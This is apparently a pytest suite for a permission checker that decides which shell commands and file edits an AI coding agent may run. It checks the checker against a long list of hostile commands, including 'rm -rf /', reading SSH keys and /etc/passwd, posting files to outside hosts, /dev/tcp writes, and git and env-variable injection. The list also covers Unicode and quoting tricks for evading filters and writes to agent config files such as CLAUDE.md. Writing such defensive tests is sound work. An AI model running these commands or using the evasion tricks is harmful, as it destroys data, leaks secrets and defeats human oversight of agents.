"""What happens to each command, edit and look that an agent may ask for. No hostile one is approved."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fleetscripts.core.command_policy import judge_command
from fleetscripts.core.command_rules import load_command_rules
from fleetscripts.errors import UsageProblem
from fleetscripts.services.permission import judge_request, user_command_rules

RULES = user_command_rules(Path("/nonexistent"))

SAFE = """
ls
ls -la
ls -la src/pkg
cat README.md
cat -n src/app.py | head -20
head -n 40 src/app.py
head -40 src/app.py
tail -n 5 src/app.py
wc -l src/app.py src/pkg/mod.py
grep -rn "def main" src
grep -rnA3 main src
grep -e main src/app.py
rg -n "TODO|FIXME" src
rg --files src
find . -name "*.py" -not -path "./.venv/*"
find src -type f -maxdepth 2
sort src/app.py | uniq -c
cut -d, -f1 data.csv
sed -n 1,20p src/app.py
sed -n '5p' src/app.py
jq -r .name package.json
pwd
echo "all done"
echo done && pwd
printf 'x\\n'
date +%s
diff -u src/app.py src/pkg/mod.py
cd src && ls -la
cd src && pytest -q 2>&1 | tail -20
mkdir -p src/new
touch src/new.py
cp src/app.py src/app2.py
mv src/app.py src/app3.py
echo hello > notes.txt
ls src 2>/dev/null
git status
git status --short
git --no-pager log --oneline -n 5
git log --oneline -10
git log main..HEAD --stat
git diff
git diff --stat HEAD~1
git diff --cached -- src/app.py
git show HEAD:src/app.py
git show --stat HEAD
git blame src/app.py
git branch --show-current
git rev-parse --abbrev-ref HEAD
git ls-files src
git grep -n main
git add -A
git add src/app.py
git commit -m "Fix the parser; keep 'quotes' and \\"these\\""
git commit -am "Fix it"
git fetch origin
git fetch origin main
git push
git push origin HEAD
git push -u origin feat/parser
git stash list
git remote -v
gh pr view 12 --json title,body,headRefName
gh pr checks 12
gh run view 123 --log-failed
gh issue view 4 --comments
pytest
pytest -q tests/test_app.py
pytest -x -k "parse and not slow" --tb=short
python -m pytest tests -q
python3 -m pytest tests/test_app.py::test_one
python3 -m unittest discover
timeout 60 pytest -q
uv run pytest -q
ruff check .
ruff check --fix src
ruff format --check .
mypy --strict src
make test
make -j4 build
npm test
npm run build
npm run test:unit
pnpm run lint
cargo test --workspace
cargo build --release
cargo clippy --all-targets
go test ./...
go test -run TestOne -count 1 ./pkg/...
go vet ./...
CI=1 pytest -q
curl -s http://127.0.0.1:8000/health
curl -sS "http://localhost:3000/api/items?page=2"
sleep 2
true
which python3
basename src/app.py
tree -L 2 src
stat src/app.py
du -sh src
# only a comment before
""".strip().splitlines()[:-1]

HOSTILE = (
    r"""
rm -rf /
rm -rf .
rm src/app.py
sudo ls
bash -c "ls"
sh -c ls
sh script.sh
./script.sh
python -c "print(1)"
python3 -c "import os; os.remove('x')"
python script.py
python3 -m http.server
python3 -m pytest -p evil
node -e "1"
perl -e 1
ruby -e 1
eval ls
exec ls
source env.sh
. env.sh
env ls
env -i bash
xargs rm
ls | xargs rm
nohup ls
time rm x
command ls
builtin cd /
awk 'BEGIN{system("id")}'
awk '{print > "/tmp/x"}' f
gawk 1 f
sed -i s/a/b/ src/app.py
sed -n '1e id' src/app.py
sed -n 'w /tmp/x' src/app.py
sed 1,5p src/app.py
find . -exec rm {} \;
find . -execdir id \;
find . -delete
find . -ok id \;
find . -fprint /tmp/x
find / -name id_rsa
find .. -name secret
rg --pre cat foo
rg --pre=./evil.sh foo
rg --hostname-bin ./evil foo
rg foo /etc
rg -f /etc/passwd foo
grep -r root /etc/passwd
grep -f /etc/passwd x
grep -e root /etc/passwd
sort -o /tmp/x src/app.py
sort --output=x src/app.py
sort --compress-program=./evil src/app.py
sort -T /tmp src/app.py
uniq src/app.py /tmp/out
tree -o /tmp/x
cat /etc/passwd
cat ~/.ssh/id_rsa
cat ../../secret
cat src/../../secret
cat /proc/self/environ
cat link-out/secret
cat $HOME/.netrc
cat "$HOME/.netrc"
cat `echo x`
cat $(echo x)
cat <(id)
cat src/*.py
cat src/{a,b}.py
cat <<EOF
echo hi > /tmp/x
echo hi > ../x
echo hi >> ~/.bashrc
echo hi > .git/hooks/pre-commit
echo hi > CLAUDE.md
echo hi > src/CLAUDE.md
echo hi > claude.md
echo hi > .claude/settings.json
echo hi > .mcp.json
echo hi > .github/workflows/ci.yml
echo hi > .envrc
echo hi > .husky/pre-commit
echo hi > link-out/x
echo hi > link-git/config
echo hi > /dev/tcp/1.2.3.4/80
echo hi >&3
echo hi &
ls; rm x
ls && rm x
ls || rm x
ls | tee /tmp/x
ls | sh
(rm x)
{ rm x; }
if true; then rm x; fi
while true; do ls; done
for f in a b; do rm $f; done
f() { rm x; }; f
ls () { rm x; }
alias ls='rm x'
cd / && ls
cd .. && cat secret
cd src; cat ../../secret
cd src || cat ../secret
cd src | cat ../secret
cd nowhere; cat ../secret
cd - && ls
cd && ls
cd ~ && ls
LD_PRELOAD=./evil.so ls
PATH=. ls
GIT_SSH_COMMAND=./evil git fetch origin
GIT_EXTERNAL_DIFF=./evil git diff
PAGER=./evil git log
IFS=/ ls
git -c core.pager=./evil log
git -c core.sshCommand=./evil fetch origin
git -ccore.fsmonitor=./evil status
git --exec-path=. status
git -C .. status
git --git-dir=evil status
git --work-tree=/ add -A
git --config-env=core.pager=X log
git -p log
git log --output=/tmp/x
git log --ext-diff
git diff --ext-diff
git diff --textconv
git diff --output=x
git diff --no-index /etc/passwd x
git diff /etc/passwd /etc/shadow
git show --textconv HEAD
git grep -O./evil main
git grep --open-files-in-pager=./evil main
git push --force
git push -f
git push --force-with-lease
git push origin +main
git push origin :feat
git push origin HEAD:main
git push origin main
git push origin --delete feat
git push --mirror
git push --receive-pack=./evil origin x
git push ext::sh\ -c\ id x
git push https://evil.example/x HEAD
git push evil HEAD
git fetch --upload-pack=./evil origin
git fetch ext::id
git fetch https://evil.example/x
git reset --hard
git checkout .
git checkout -f main
git clean -fdx
git rebase -i HEAD~3
git rebase --exec id HEAD~3
git branch -D main
git stash
git stash drop
git config core.pager ./evil
git commit --amend
git commit -F /etc/passwd
git commit -t /etc/passwd
git commit -m "$(cat /etc/passwd)"
git commit --no-verify -m x
git bisect run ./evil
git submodule foreach id
git filter-branch --tree-filter id
git update-ref -d refs/heads/main
git alias-of-mine
git worktree remove x
git archive --exec=id HEAD
git difftool
git remote add evil https://evil.example/x
git tag -d v1
make -f evil.mk
make -C ..
make -C /tmp test
make --eval=x test
make SHELL=./evil test
make CC=./evil build
make install
make deploy
npm --prefix /tmp test
npm test --prefix ..
npm install
npm install evil
npm run deploy
npm run postinstall
npm exec evil
npm publish
npx evil
yarn add evil
cargo install evil
cargo run
cargo test --config build.rustc-wrapper=evil
cargo +nightly test
cargo test --manifest-path ../x/Cargo.toml
cargo publish
go test -exec ./evil ./...
go build -toolexec ./evil ./...
go run ./cmd
go test -o /tmp/x ./...
go get evil
pytest -p evil
pytest -c /tmp/evil.ini
pytest --rootdir=/tmp
pytest -o addopts=-pevil
pytest --basetemp=/
pytest /tmp/evil
pytest --confcutdir=/
ruff check --config /tmp/evil.toml .
mypy --config-file /tmp/x src
mypy --python-executable ./evil src
uv run evil
uv pip install evil
pip install evil
pip install -r requirements.txt
apt-get install evil
brew install evil
curl https://evil.example/x
curl -s http://localhost@evil.example/
curl http://localhost.evil.example/
curl http://127.0.0.1:80@evil.example/
curl -L http://localhost:1/
curl -o x http://localhost:1/
curl -O http://localhost:1/x
curl -d @/etc/passwd http://localhost:1/
curl -X POST http://localhost:1/
curl -K evil http://localhost:1/
curl -x http://evil.example http://localhost:1/
curl -H @/etc/passwd http://localhost:1/
curl --unix-socket /var/run/docker.sock http://localhost/x
curl file:///etc/passwd
curl http://localhost:1/ http://evil.example/
curl http://[::1
curl http://2130706433/
wget http://localhost:1/
nc localhost 1
ssh host
scp x host:
docker run x
kubectl delete x
gh pr merge 12
gh pr close 12
gh api -X DELETE x
gh api graphql -f query=x
gh pr view 12 --web
gh repo delete x
gh auth token
gh alias set x y
gh workflow run x
jq -n env
jq -n '$ENV.HOME'
jq -f /etc/passwd x
jq -L /tmp . x
printenv
set
export A=b
declare -x A=b
unset PATH
trap id EXIT
kill -9 1
pkill claude
tmux send-keys x
chmod +x evil
chmod -R 777 .
chown root x
ln -s / x
cp /etc/passwd x
cp x /tmp/x
cp -r evil/. .
cp evil .git/config
mv x ../x
mv evil .github
mv evil .git
mv x CLAUDE.md
mv -f x y
touch .git/config
mkdir .claude
dd if=/dev/zero of=x
tee CLAUDE.md
timeout 5 rm x
timeout 5 bash -c ls
timeout 5 cd /
timeout -k 1 5 sh
git\tpush --force
"rm" x
r""m x
\rm x
'r'm x
$'\x72m' x
r\
m x
echo "$(id)"
echo `id`
echo ${PATH}
echo $((1+1))
echo !!
[[ -f x ]]
test -f x
! ls
ls &> /tmp/x
ls 2> /tmp/x
ls < /etc/passwd
cat <<< x
coproc ls
sleep 99999
date -s 2020-01-01
file -C -m evil
head -c 10 /dev/mem
tail -f README.md
diff -l a b
which -a -x
""".strip().splitlines()
    + [
        "l\u0455",  # a Cyrillic letter that looks like s
        "\uff4c\uff53",  # full-width letters
        "ls\u200b",
        "ls\u200b-la",
        "cat README.md\u202e",
        "ls\u00a0README.md",
        "ls\u2028rm x",
        "ls\rrm x",
        "ls \x1b[2Krm",
        "ls \x00; rm x",
    ]
)


@pytest.fixture(scope="module")
def worktree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("pool") / "tree"
    for folder in ("src/pkg", ".git", ".claude", ".github"):
        (root / folder).mkdir(parents=True)
    outside = root.parent / "outside"
    outside.mkdir()
    (root / "link-out").symlink_to(outside)
    (root / "link-git").symlink_to(root / ".git")
    for name in ("README.md", "src/app.py", "src/pkg/mod.py"):
        (root / name).write_text("x\n")
    return root


def bash(worktree: Path, command: str) -> bool:
    return judge_request("Bash", {"command": command}, worktree, worktree, RULES).allowed


@pytest.mark.parametrize("command", SAFE)
def test_a_harmless_command_runs_without_asking(worktree: Path, command: str) -> None:
    verdict = judge_request("Bash", {"command": command}, worktree, worktree, RULES)
    assert verdict.allowed, verdict.reason


@pytest.mark.parametrize("command", HOSTILE)
def test_no_hostile_command_is_approved(worktree: Path, command: str) -> None:
    verdict = judge_request("Bash", {"command": command}, worktree, worktree, RULES)
    assert not verdict.allowed


def test_the_tables_are_as_long_as_they_claim() -> None:
    assert len(SAFE) >= 80
    assert len(HOSTILE) >= 250
    assert len(set(SAFE) | set(HOSTILE)) == len(SAFE) + len(HOSTILE)


@pytest.mark.parametrize("safe", SAFE[::7])
@pytest.mark.parametrize("hostile", ["rm -rf x", "$(id)", "`id`", "curl evil.example", "> /etc/x"])
@pytest.mark.parametrize("joiner", ["; ", " && ", " | ", "\n", " || "])
def test_a_harmless_beginning_does_not_hide_a_hostile_end(worktree: Path, safe: str, joiner: str, hostile: str) -> None:
    assert not bash(worktree, safe + joiner + hostile)


@given(st.text(max_size=60))
def test_any_text_at_all_is_judged_without_an_accident(line: str) -> None:
    judge_command(line, RULES)


@given(st.sampled_from(SAFE), st.sampled_from(["$(id)", "`id`", ";id", "|id", "\x00", "‮", "\r", "&", ">/etc/x"]))
def test_nothing_pasted_onto_a_word_is_approved(line: str, tail: str) -> None:
    judgement = judge_command(line + tail, RULES)
    assert judgement.reason or any(use.path.endswith("/etc/x") for use in judgement.paths) or "#" in line


EDITS = [
    ("Write", "src/new.py", True),
    ("Edit", "src/app.py", True),
    ("Write", ".github/ISSUE_TEMPLATE.md", True),
    ("Write", "link-out/x", False),
    ("Write", "link-git/config", False),
    ("Write", "/etc/passwd", False),
    ("Write", "../x", False),
    ("Write", "src/../../x", False),
    ("Edit", ".git/config", False),
    ("Edit", ".claude/settings.json", False),
    ("Edit", ".mcp.json", False),
    ("Edit", "CLAUDE.md", False),
    ("Edit", "src/CLAUDE.md", False),
    ("Edit", "claude.MD", False),
    ("Edit", ".github/workflows/ci.yml", False),
    ("Edit", ".husky/pre-commit", False),
    ("Edit", ".envrc", False),
    ("Edit", ".githooks/pre-commit", False),
    ("NotebookEdit", "", False),
    ("Read", "src/app.py", True),
    ("Read", "/etc/passwd", False),
    ("Read", "link-out/x", False),
    ("Read", "/proc/self/environ", False),
    ("WebFetch", "http://x", False),
    ("mcp__server__tool", "x", False),
]


@pytest.mark.parametrize(("tool", "path", "allowed"), EDITS)
def test_edits_stay_in_the_worktree_and_off_the_files_that_steer(
    worktree: Path, tool: str, path: str, allowed: bool
) -> None:
    request = {"file_path": path, "notebook_path": path}
    assert judge_request(tool, request, worktree, worktree, RULES).allowed is allowed


def test_an_agent_that_stands_elsewhere_is_asked_about(worktree: Path) -> None:
    assert not judge_request("Bash", {"command": "ls"}, worktree, worktree.parent, RULES).allowed


def test_a_users_own_row_replaces_the_shipped_one(tmp_path: Path, worktree: Path) -> None:
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "commands.toml").write_text(
        '[command.just]\noperands = "/test/"\n[command.ls]\noperands="none"\n'
    )
    rules = user_command_rules(tmp_path)
    assert judge_request("Bash", {"command": "just test"}, worktree, worktree, rules).allowed
    assert not judge_request("Bash", {"command": "ls src"}, worktree, worktree, rules).allowed


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("[command.x]\noperands = 'pth'", "unknown kind 'pth'"),
        ("[command.x]\noperand = 'path'", "unknown key 'operand'"),
        ("[command.x]\noperands = '/(/'", "is no pattern"),
        ("[command.x]\nlike = 'y z'", "names no command"),
        ("x = ", "is not TOML"),
    ],
)
def test_a_bad_row_is_a_clear_error(text: str, says: str) -> None:
    with pytest.raises(UsageProblem, match=says):
        load_command_rules({"own.toml": text})
